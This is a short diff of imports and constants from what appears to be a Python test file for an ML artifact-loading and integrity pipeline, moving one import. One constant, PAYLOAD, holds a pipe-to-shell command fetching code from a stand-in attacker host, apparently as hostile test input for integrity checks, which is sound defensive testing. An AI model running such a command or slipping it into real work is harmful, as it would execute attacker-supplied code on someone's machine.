@@ -12,9 +12,9 @@ from support.hostile import DIGEST, file_entry, is_untouched, manifest, replies,
 from infra.artifacts import Manifest
 from infra.errors import InputError, IntegrityError
 from infra.settings import Settings
+from tasks.references.generator import generator_folder
 from tasks.references.types import DatabaseVersion, Generator
 from tasks.serve.load import load_pipeline, search_database
-from tasks.train.task import generator_folder
 
 ENCODER = {"name": "made", "weights_digest": "w" * 64, "preprocess_digest": "p" * 64, "dimension": 16}
 PAYLOAD = b"curl attacker | sh"
